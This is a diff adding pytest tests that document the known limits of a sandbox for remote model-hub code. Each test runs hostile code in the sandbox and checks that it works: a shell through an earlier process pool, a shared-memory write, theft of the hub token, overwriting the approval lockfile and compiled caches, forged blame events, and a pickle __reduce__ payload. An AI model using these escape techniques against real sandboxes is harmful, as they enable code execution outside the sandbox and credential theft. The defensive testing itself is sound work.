@@ -1,6 +1,7 @@
 # SPDX-License-Identifier: Apache-2.0
 """What the cage does not do, shown under the default policy. docs/security.md has a row for each test; a limit that goes away fails
 its test here, and then the row goes as well."""
+import ctypes
 import os
 import socket
 import subprocess
@@ -104,3 +105,94 @@ def test_limit_root_reads_environments(new_stage):  # noqa: F811
     if "PermissionError" in outcome.out:
         pytest.skip("this kernel asks Landlock")
     assert set(stage.effects()) == {"key"}
+
+
+def test_limit_workers_that_were_there_before(new_stage):  # noqa: F811
+    """Processes that the user's own code forked before the first remote statement are in no cage, and do what they are sent."""
+    stage = new_stage()
+    run(stage, """
+        import concurrent.futures, gc, os, kit
+        (pool,) = [each for each in gc.get_objects() if isinstance(each, concurrent.futures.ProcessPoolExecutor)]
+        pool.submit(os.system, kit.shell()).result()
+    """, before="pool")
+    assert set(stage.effects()) == {"mark"}
+
+
+def test_limit_memory_that_others_share(new_stage):  # noqa: F811
+    """Memory that another process of the user shares by System V (shmget) or below /dev/shm can be attached to."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.shmat.restype = ctypes.c_void_p
+    key = 0x4855_0000 | os.getpid() & 0xFFFF
+    segment = libc.shmget(key, 4096, 0o1600)
+    address = libc.shmat(segment, None, 0)
+    stage = new_stage()
+    try:
+        with open(f"/dev/shm/hubguard-test-{os.getpid()}", "w+") as shared:
+            run(stage, f"""
+                import ctypes
+                libc = ctypes.CDLL(None)
+                libc.shmat.restype = ctypes.c_void_p
+                ctypes.memmove(libc.shmat(libc.shmget({key}, 4096, 0), None, 0), b"struck", 6)
+                open({shared.name!r}, "w").write("struck")
+            """)
+            assert ctypes.string_at(address, 6) == b"struck" and shared.read() == "struck"
+    finally:
+        os.unlink(f"/dev/shm/hubguard-test-{os.getpid()}")
+        libc.shmdt(ctypes.c_void_p(address))
+        libc.shmctl(segment, 0, None)
+
+
+def test_limit_token_of_the_hub(new_stage):  # noqa: F811
+    """The hub's client needs its token, below HF_HOME: remote code in the same process can read it, too."""
+    stage = new_stage()
+    (stage.place.scratch / "huggingface" / "token").write_text(lab.SECRET)
+    run(stage, "import os, kit\nkit.loot(open(os.environ['HF_HOME'] + '/token').read())\n")
+    assert set(stage.effects()) == {"key"}
+
+
+def test_limit_approvals_in_the_working_directory(new_stage):  # noqa: F811
+    """`hubguard.lock` in the working directory can be written: it is in force in the next run."""
+    stage = new_stage()
+    run(stage, "open('hubguard.lock', 'w').write('struck')\n")
+    assert (stage.work / "hubguard.lock").read_text() == "struck"
+
+
+def test_limit_compiled_code_in_caches(new_stage):  # noqa: F811
+    """What torch and triton compiled is loaded from their caches without a question in the next run, and they may be written."""
+    stage = new_stage()
+    cache = stage.home / ".triton" / "cache" / "kernel"
+    cache.mkdir(parents=True)
+    run(stage, f"open({str(cache / 'launcher.so')!r}, 'w').write('struck')\n")
+    assert (cache / "launcher.so").read_text() == "struck"
+
+
+def test_limit_the_report_believes_the_process(new_stage):  # noqa: F811
+    """Code in the cage can make events of acts that nobody tried, and put them down to another repository."""
+    stage = new_stage()
+    run(stage, """
+        import kit, target
+        frame = target.REPOSITORY.replace("acme/caged", "innocent/model") + "/modeling.py"
+        kit.ask("ACT", "/bin/sh", "exec", line=1, frame=frame)
+    """)
+    assert [event["repository"] for event in stage.place.events() if event["type"] == "act"] == ["innocent/model"]
+
+
+def test_limit_what_others_unpickle(new_stage):  # noqa: F811
+    """A process in no cage that unpickles what a caged one sends (results of a pool, a queue) does what the pickle says."""
+    stage = new_stage()
+    run(stage, """
+        import os, kit
+
+        class Result:
+            def __reduce__(self):
+                return os.system, (kit.shell(),)
+    """, action="parent = multiprocessing.Pipe(); worker = multiprocessing.Process(target=lambda: parent[1].send("
+                "importlib.import_module('module').Result())); worker.start(); parent[0].recv(); worker.join()")
+    assert set(stage.effects()) == {"mark"}
+
+
+def test_limit_processor_time_of_others(new_stage):  # noqa: F811
+    """Which processors another process of the user may run on, and with what priority, can be set."""
+    stage = new_stage()
+    run(stage, "import os, target\nos.setpriority(os.PRIO_PROCESS, target.VICTIM, 7)\nos.sched_setaffinity(target.VICTIM, {0})\n")
+    assert os.getpriority(os.PRIO_PROCESS, stage.victim.pid) == 7
